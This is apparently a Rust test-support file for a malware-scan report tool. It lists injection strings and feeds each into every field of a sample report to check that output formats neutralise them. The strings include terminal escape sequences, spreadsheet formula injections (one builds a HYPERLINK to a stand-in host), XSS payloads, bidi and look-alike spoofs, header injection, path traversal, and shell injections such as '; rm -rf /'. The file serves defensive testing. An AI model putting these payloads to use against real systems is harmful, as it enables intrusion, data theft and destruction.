//! Strings that have attacked, or fooled, one reader or another, put into
//! every text a report has.

use serde_json::json;
use vt_core::scan::{Error, Source};
use vt_report::{Format, Report};

use crate::{sample, snapshots};

/// Each attack stands for itself; `strings` puts it in several places.
const ATTACKS: &[&str] = &[
    // Terminals: colours, titles, clipboard, links, device control, C1, noise.
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://e.test\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobw==\x07",
    "\x1bP+q544e\x1b\\",
    "\x1bc",
    "\x1b[6n",
    "\u{9b}31mred",
    "\u{9d}0;t\u{9c}",
    "\u{90}q\u{9c}",
    "\x07\x07",
    "a\rb",
    "a\x08\x08b",
    "\x7f",
    "\x0e\x0f",
    "\0",
    "a\0b",
    "\u{85}",
    "a\tb",
    "a\nb",
    "a\r\nb",
    "\x0b\x0c",
    // Spreadsheets.
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://e.test?x=\"&A1,\"x\")",
    "=IMPORTXML(\"https://e.test\",\"//a\")",
    "=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠a",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "   =1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "a;=1+1",
    "a; \"=1+1",
    "\"=1+1",
    "'=1+1",
    "\";=1+1;\"",
    "a\",\"=1+1",
    "a,=1+1",
    "a\n=1+1",
    "a\"\n=1+1",
    // Quotes and separators.
    "'",
    "\"",
    "\"\"",
    "\"\"\"",
    "'''",
    "`",
    ",",
    ";",
    ",,,,",
    "\\",
    "\\\"",
    "\\u0000",
    "\\u{1b}",
    "|",
    "a|b",
    "{}",
    "[]",
    "null",
    "{{ title }}",
    "{% raw %}",
    "${x}",
    "#{x}",
    "%s%n",
    "%0d%0a",
    // Pages.
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "</style><script>1</script>",
    "</title><script>1</script>",
    "</textarea>",
    "</td></tr></table>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<iframe srcdoc='x'>",
    "<a href=//e.test>x</a>",
    "<base href=//e.test>",
    "<meta http-equiv=refresh content=0>",
    "<form action=//e.test>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//e.test>",
    "<object data=x>",
    "<embed src=x>",
    "<math><mtext></mtext>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "x\" style=\"position:fixed",
    "&lt;b&gt;",
    "&amp;",
    "&#60;b&#62;",
    "&",
    "&notanentity;",
    "<",
    ">",
    "<b",
    "<<b>>",
    "<?php ?>",
    "<%= 1 %>",
    "\u{ff1c}script\u{ff1e}",
    "+ADw-script+AD4-",
    // The eye: direction, no width, separators, tags, look-alikes.
    "invoice\u{202e}fdp.exe",
    "\u{202a}a\u{202c}",
    "\u{202b}a",
    "\u{202d}a",
    "\u{2066}a\u{2069}",
    "\u{2067}a",
    "\u{2068}a",
    "\u{200e}a",
    "\u{200f}a",
    "\u{61c}a",
    "a\u{200b}b",
    "a\u{200c}b",
    "a\u{200d}b",
    "a\u{2060}b",
    "a\u{2063}b",
    "\u{feff}",
    "a\u{ad}b",
    "a\u{180e}b",
    "a\u{2028}b",
    "a\u{2029}b",
    "a\u{e0041}b",
    "\u{fff9}a\u{fffb}",
    "pаypal",
    "раура\u{4cf}",
    "a\u{301}\u{301}\u{301}",
    "ẍ\u{336}",
    "漢字テスト",
    "한국어",
    "ﷺ",
    "👨‍👩‍👧‍👦",
    "🏴\u{e0067}\u{e007f}",
    "🇩🇪",
    "e\u{20e3}",
    "\u{fffd}",
    "\u{ffff}",
    "\u{10ffff}",
    "עברית",
    "العربية",
    "ไทย",
    // Headers, paths, logs, shells.
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<b>",
    "a\nBcc: x@e.test",
    "../../etc/passwd",
    "..\\..\\x",
    "CON",
    "-rf",
    "--help",
    "/dev/null",
    "C:\\Windows\\x.exe",
    "file:///etc/passwd",
    "$(id)",
    "`id`",
    "; rm -rf /",
    "' OR 1=1 --",
    "a\u{0}.exe",
    "https://e.test/x",
    // What a reader could take for an answer of ours.
    "undetected",
    "clean",
    "no such engine",
    "not scanned (timeout)",
    "0",
    "-1",
    "1e400",
    "NaN",
    "true",
    " ",
    "  a  ",
    "\u{a0}",
];

/// At least two hundred strings, some of them long.
pub(crate) fn strings() -> Vec<String> {
    let mut strings: Vec<String> = ATTACKS.iter().map(|&attack| attack.to_owned()).collect();
    let shifted = ATTACKS.iter().step_by(3).map(|attack| format!("a{attack}"));
    strings.extend(shifted);
    for piece in [
        "x", "漢", "\x1b[31m", "a\u{301}", "\u{301}", "<b>", "=1+1;", "\u{202e}", "👍 ", "\"",
    ] {
        strings.push(piece.repeat(3000));
    }
    assert!(strings.len() > 200, "{}", strings.len());
    strings
}

/// A report with this text wherever a text can be.
pub(crate) fn report_of(text: &str) -> Report {
    let mut attributes = json!({
        "last_analysis_stats": {"malicious": 1, "undetected": 2},
        "last_analysis_results": {text: {"category": "malicious", "result": text}},
        "meaningful_name": text,
        "names": [text],
        "tags": [text],
        "type_description": text,
        "type_tag": text,
        "popular_threat_classification": {"suggested_threat_label": text}
    });
    let whole = sample::found(1, 32, Source::VirusTotal, attributes.clone());
    attributes["last_analysis_results"][text] = json!({"category": text});
    let outcomes = [
        whole,
        sample::found(2, 64, Source::Cache, attributes),
        sample::failed(3, Error::Internal(text.into())),
        sample::not_found(4, Source::Cache),
    ];
    let mut report = sample::report(&outcomes, &[text, "Fortinet"]);
    report.title = text.to_owned();
    report
}

/// The report in a format, as text.
pub(crate) fn written(report: &Report, format: Format) -> String {
    snapshots::text(report, format, None)
}

/// Whether a terminal would obey the character, or a reader could miss it.
/// Written apart from the crate's own list, so that the two check each other.
pub(crate) fn is_treacherous(c: char) -> bool {
    let bidi = "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}";
    let unseen = "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{2028}\u{2029}";
    c != '\n' && c.is_control() || bidi.contains(c) || unseen.contains(c)
}
